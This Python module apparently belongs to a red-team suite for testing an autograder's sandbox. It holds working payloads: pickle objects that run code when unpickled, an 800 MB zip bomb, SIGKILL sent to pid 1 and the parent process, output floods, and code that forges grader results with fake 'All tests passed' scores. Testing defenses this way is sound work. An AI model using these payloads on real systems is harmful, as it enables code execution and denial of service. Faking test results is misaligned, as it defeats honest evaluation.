"""Attacks on the results: forged outputs, early exits, output floods, pickles.

They try to make the grader read something other than what the student's functions
returned, to stop the job in a way that looks like success, to drown the grader in
output, or to run code when a file is unpickled.
"""

from __future__ import annotations

from corpus.cellcode import FORGE_OUTPUTS, LAST, hostile
from corpus.draft import Attack, AttackClass

# --- forging results --------------------------------------------------------------------------

FORGE_THREAD = (
    FORGE_OUTPUTS
    + """
import threading as _threading
def _keep_forging():
    while True:
        _forge_outputs()
        _time.sleep(0.02)
_threading.Thread(target=_keep_forging, daemon=True).start()
"""
)

OUTPUTS_SYMLINK = """
import shutil as _shutil
_shutil.rmtree("outputs", ignore_errors=True)
_os.symlink(_os.path.abspath("inputs"), "outputs")
"""

FORGE_RESULTS_JSON = """
import atexit as _atexit, json as _json
def _claim():
    cells = [{"index": i, "grade_id": None, "status": "ok", "error": ""} for i in range(40)]
    try:
        with open("results.json", "w") as handle:
            _json.dump({"cells": cells, "score": 19, "passed": True}, handle)
    except Exception:
        pass
_claim()
_atexit.register(_claim)
get_ipython().events.register("post_run_cell", lambda *a: _claim())
"""

PRINT_PASSED = """
for _line in ("All tests passed", "Score: 19 / 19", "[AutograderSummary] 17/17 points",
              "relu_forward_test: all 3 hidden cases passed."):
    print(_line, flush=True)
from IPython.display import display, HTML
display(HTML("<b>All tests passed: 19/19</b>"))
"""

NPZ_PICKLE = """
import pickle as _pickle, glob as _glob
class _Payload:
    def __reduce__(self):
        code = ("import os; [open(os.path.join(d, %r), 'w').write('grader unpickled me') "
                "for d in %r if os.path.isdir(d)]" % (_ESCAPE_NAME + "-grader", _ESCAPE_DIRS))
        return (exec, (code,))
def _poison(*_a):
    for _path in _glob.glob("inputs/*.npz"):
        target = _path.replace("inputs", "outputs")
        bomb = np.empty((), dtype=object)
        bomb[()] = _Payload()
        try:
            np.savez(target, **{"case0/out/out": bomb, "__meta__": bomb})
        except Exception as _e:
            print("poison failed", _e)
get_ipython().events.register("post_run_cell", _poison)
"""

NPZ_ZIP_BOMB = """
import glob as _glob, zipfile as _zipfile, io as _io2
def _bomb(*_a):
    # 800 MB of zeros inflate from under 1 MB; two files, once, to stay within the deadline.
    get_ipython().events.unregister("post_run_cell", _bomb)
    header = np.lib.format.header_data_from_array_1_0(np.zeros(1))
    header["shape"] = (100_000_000,)
    buffer = _io2.BytesIO()
    np.lib.format.write_array_header_1_0(buffer, header)
    for _path in sorted(_glob.glob("inputs/*.hidden.npz"))[:2]:
        target = _path.replace("inputs", "outputs")
        with _zipfile.ZipFile(target, "w", _zipfile.ZIP_DEFLATED) as archive:
            with archive.open("case0/out/out.npy", "w", force_zip64=True) as member:
                member.write(buffer.getvalue())
                chunk = bytes(1 << 20)
                for _ in range(800):
                    member.write(chunk)
get_ipython().events.register("post_run_cell", _bomb)
"""

SPECIAL_FILES = """
import glob as _glob
def _specials(*_a):
    for _i, _path in enumerate(sorted(_glob.glob("inputs/*.npz"))):
        target = _path.replace("inputs", "outputs")
        try:
            if _os.path.lexists(target):
                _os.unlink(target)
            if _i % 3 == 0:
                _os.mkfifo(target)
            elif _i % 3 == 1:
                _os.symlink("/dev/zero", target)
            else:
                _os.symlink(_COURSE + "/source/mini/mini.specs.py", target)
        except Exception as _e:
            print("special failed", _e)
get_ipython().events.register("post_run_cell", _specials)
"""
NPZ_MALFORMED = """
import glob as _glob, io as _io3
def _malform(*_a):
    # Junk before the zip header (zipfile reads it, np.load does not), a bare .npy and a
    # .npy whose data is the real zip, each renamed .npz: every kind the trusted side saw
    # raise on. Rewritten after every cell, so the honest recording never survives.
    for _i, _path in enumerate(sorted(_glob.glob("outputs/*.npz"))):
        try:
            with open(_path, "rb") as _handle:
                _zip = _handle.read()
            _buffer = _io3.BytesIO()
            np.save(_buffer, np.frombuffer(_zip, dtype=np.uint8) if _i % 3 == 2 else np.zeros(3))
            _data = b"junk" * 64 + _zip if _i % 3 == 0 else _buffer.getvalue()
            with open(_path, "wb") as _handle:
                _handle.write(_data)
        except Exception as _e:
            print("malform failed", _e)
get_ipython().events.register("post_run_cell", _malform)
"""
# --- ending the process ---------------------------------------------------------------------

SYS_EXIT = """
import sys as _sys
try:
    _sys.exit(0)
finally:
    raise SystemExit("exiting from finally")
"""

OS_EXIT = """
_os._exit(0)
"""

KILL_SELF = """
import signal as _signal
_os.kill(_os.getpid(), _signal.SIGKILL)
"""

KILL_OTHERS = """
import signal as _signal
for _target in (_os.getppid(), 1, -1):
    try:
        _os.kill(_target, _signal.SIGKILL)
    except Exception as _e:
        print("kill", _target, type(_e).__name__)
try:
    _os.killpg(_os.getpgid(0), _signal.SIGKILL)
except Exception as _e:
    print("killpg", type(_e).__name__)
"""
# --- output floods ------------------------------------------------------------------------------

PRINT_20MB = """
print("x" * 20_000_000, flush=True)
"""

FLOOD_ERRORS = """
import sys as _sys
for _ in range(50):
    _sys.stderr.write("e" * 1_000_000)
from IPython.display import display, HTML
display(HTML("<p>" + "h" * 10_000_000 + "</p>"))
raise RuntimeError("y" * 10_000_000)
"""
# --- pickles ------------------------------------------------------------------------------------

PICKLE_INLINE = """
import pickle as _pickle, base64 as _base64
class _Ckpt:
    def __reduce__(self):
        code = ("import os; [open(os.path.join(d, %r), 'w').write('unpickled') "
                "for d in %r if os.path.isdir(d)]; open('unpickled-here', 'w').write('x')"
                % (_ESCAPE_NAME + "-inline", _ESCAPE_DIRS))
        return (exec, (code,))
_blob = _base64.b64encode(_pickle.dumps(_Ckpt()))
_pickle.loads(_base64.b64decode(_blob))
_forge_outputs()
"""

PICKLE_FILE = """
import pickle as _pickle
try:
    with open("ckpt.pkl", "rb") as _handle:
        _state = _pickle.load(_handle)
    _exfiltrate("loaded the checkpoint next to the notebook")
except Exception as _e:
    print("no checkpoint:", type(_e).__name__)
"""


def result_attacks() -> list[Attack]:
    """The attacks on what the job leaves behind."""
    c = AttackClass
    return [
        Attack(
            "forge-thread",
            c.FORGED_OUTPUT,
            "a thread keeps rewriting outputs/*.npz",
            hostile(FORGE_THREAD),
        ),
        Attack(
            "forge-outputs-symlink",
            c.FORGED_OUTPUT,
            "outputs/ replaced by a link to inputs/",
            hostile(OUTPUTS_SYMLINK, cell=LAST),
        ),
        Attack(
            "forge-results-json",
            c.FORGED_OUTPUT,
            "results.json claims success, rewritten at exit",
            hostile(FORGE_RESULTS_JSON),
        ),
        Attack(
            "forge-stdout",
            c.FORGED_OUTPUT,
            'print "All tests passed" and a score',
            hostile(PRINT_PASSED),
        ),
        Attack(
            "forge-npz-pickle",
            c.FORGED_OUTPUT,
            "outputs hold pickles that run in the grader",
            hostile(NPZ_PICKLE),
        ),
        Attack(
            "forge-npz-zipbomb",
            c.FORGED_OUTPUT,
            "outputs are zip bombs (800 MB inflated)",
            hostile(NPZ_ZIP_BOMB),
        ),
        Attack(
            "forge-npz-special",
            c.FORGED_OUTPUT,
            "outputs are FIFOs and links to /dev/zero, specs",
            hostile(SPECIAL_FILES),
        ),
        Attack(
            "forge-npz-malformed",
            c.MALFORMED,
            "outputs: junk before the zip, bare and polyglot .npy renamed .npz",
            hostile(NPZ_MALFORMED),
        ),
        Attack("exit-sys", c.EXIT, "sys.exit in an answer cell", hostile(SYS_EXIT)),
        Attack(
            "exit-os", c.EXIT, "os._exit after the first test", hostile(OS_EXIT, "relu_backward")
        ),
        Attack(
            "exit-kill-self", c.EXIT, "SIGKILL to itself", hostile(KILL_SELF, "sigmoid_forward")
        ),
        Attack(
            "exit-kill-others",
            c.EXIT,
            "SIGKILL to parent, pid 1, -1 and the process group",
            hostile(KILL_OTHERS, "sigmoid_forward"),
        ),
        Attack("flood-stdout", c.OUTPUT_FLOOD, "one 20 MB line on stdout", hostile(PRINT_20MB)),
        Attack(
            "flood-errors",
            c.OUTPUT_FLOOD,
            "50 MB stderr, 10 MB HTML, 10 MB exception",
            hostile(FLOOD_ERRORS),
        ),
        Attack(
            "pickle-inline",
            c.PICKLE,
            "unpickle code in the answer, forge outputs",
            hostile(FORGE_OUTPUTS + PICKLE_INLINE),
        ),
    ]
